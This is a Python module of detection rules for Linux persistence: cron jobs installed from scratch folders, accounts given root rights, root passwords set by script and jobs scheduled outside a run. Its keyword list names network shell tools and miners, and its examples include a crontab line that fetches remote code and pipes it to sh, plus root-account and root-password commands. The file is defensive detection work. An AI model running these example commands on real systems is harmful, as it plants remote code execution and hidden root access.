"""Programs that make something come back, or leave the run's accounts."""

from apps.detection.argv import getopt
from apps.detection.argv.invocation import Invocation
from apps.detection.reading import Reading
from apps.detection.rules.base import PROCESS, Detail, Rule
from apps.detection.rules.common import asks_for_help

_SUSPECT = (
    "/tmp/", "/dev/shm", "/var/tmp",  # noqa: S108 - looked for, not used
    "curl", "wget", "nc ", "bash -i", "/dev/tcp", "@reboot", "base64",
    "python", "ssh ", "/.", "xmrig",
)  # fmt: skip


def _crontab(reading: Reading) -> Detail | None:
    for invocation in reading.invocations:
        if invocation.program != "crontab" or {"-l", "-e", "-r", "-i"} & set(invocation.args):
            continue
        options = getopt(invocation.args, "u:n:")
        file = options.rest[0] if options.rest else "-"
        text = (invocation.stdin or " ".join(reading.texts)).lower() if file == "-" else file
        sign = next((s for s in _SUSPECT if s in text), "")
        if sign and (file != "-" or invocation.stdin or len(reading.pipelines) > 0):
            return {"file": file, "text": text, "sign": sign}
    return None


def _account(invocation: Invocation) -> Detail | None:
    options = getopt(
        invocation.args,
        "b:c:d:e:f:g:G:k:K:p:s:u:Z:a",
        frozenset({"--uid", "--gid", "--groups", "--shell", "--password", "--comment"}),
    )
    root = options.value("u", "--uid") == "0" or options.value("g", "--gid") in ("0", "root")
    groups = set(options.value("G", "--groups").split(",")) & {
        "sudo",
        "wheel",
        "root",
        "admin",
        "shadow",
        "disk",
    }
    return {"arguments": " ".join(invocation.args), "root": root} if root or groups else None


def _password(invocation: Invocation) -> Detail | None:
    text = (invocation.stdin or "").strip()
    return {"account": text.partition(":")[0]} if text.startswith("root:") else None


def _schedules(invocation: Invocation) -> Detail | None:
    """Seen in a run: what these start is nobody's child and lies in another cgroup."""
    if invocation.zone != "run" or asks_for_help(invocation.args or ("x",)):
        return None
    listing = {"-l", "-r", "-e", "-d", "-c", "--list"} & set(invocation.args)
    return (
        None
        if listing and invocation.program in ("at", "crontab", "batch")
        else {"program": invocation.program, "arguments": " ".join(invocation.args)}
    )


CRONTAB = Rule(
    slug="crontab-installed",
    version=1,
    family="persistence",
    behaviour="persistence",
    level="high",
    technique="T1053.003",
    title="Scheduled job installed",
    description=(
        "crontab is given a table from a scratch folder, or one that downloads, connects or starts "
        "something hidden."
    ),
    false_positives="Set-up of a host by an operator.",
    examples=(
        "(crontab -l; echo '*/5 * * * * curl -s http://203.0.113.9/x | sh') | crontab -", "crontab /tmp/c",
    ),
    match=_crontab,
    reads="reading",
    programs=frozenset({"crontab"}),
)  # fmt: skip
ACCOUNT = Rule(
    slug="root-account-made",
    version=1,
    family="persistence",
    behaviour="persistence",
    level="high",
    technique="T1136.001",
    title="Account with root's rights made",
    description=(
        "An account is created or changed to have user or group 0, or to belong to the administrators."
    ),
    false_positives="Set-up of a host by an operator.",
    examples=("useradd -o -u 0 -g 0 x", "usermod -aG sudo x"),
    match=_account,
    programs=frozenset({"useradd", "adduser", "usermod"}),
)
PASSWORD = Rule(
    slug="root-password-set",
    version=1,
    family="persistence",
    behaviour="persistence",
    level="high",
    technique="T1098",
    title="Root's password set from a script",
    description="chpasswd is fed a new password for root.",
    false_positives="Image builds.",
    examples=("echo root:x | chpasswd",),
    match=_password,
    programs=frozenset({"chpasswd"}),
)
SCHEDULES = Rule(
    slug="run-schedules-job",
    version=1,
    family="persistence",
    behaviour="persistence",
    level="high",
    technique="T1053",
    title="Run schedules something outside itself",
    description=(
        "A process of a run starts systemd-run, at, batch or crontab: what they start belongs to another "
        "cgroup and outlives the run."
    ),
    false_positives="Launchers that use systemd scopes; record the scope with the run.",
    examples=("systemd-run --user --unit=x /bin/sh -c id", "at now + 1 minute -f /tmp/x"),
    match=_schedules,
    on=frozenset({PROCESS}),
    programs=frozenset({"systemd-run", "at", "batch", "crontab"}),
)
RULES = (CRONTAB, ACCOUNT, PASSWORD, SCHEDULES)
